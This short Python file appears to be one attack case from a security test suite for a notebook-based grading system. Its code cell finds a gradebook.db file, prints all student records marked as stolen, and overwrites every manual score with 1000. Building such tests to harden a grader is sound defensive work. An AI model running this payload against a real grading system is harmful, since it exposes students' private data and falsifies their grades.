"""Opens gradebook.db, reads all grades and gives itself full points."""

from attacks.kit import Earns

OUTCOME = Earns(10)
CELLS = (
    """
import os
import sqlite3

for path in ("@COURSE@/gradebook.db", "/gradebook.db", "gradebook.db"):
    if os.path.exists(path):
        with sqlite3.connect(path) as gradebook:
            print("STO" "LEN", gradebook.execute("select * from student").fetchall())
            gradebook.execute("update grade set manual_score = 1000")
""",
)
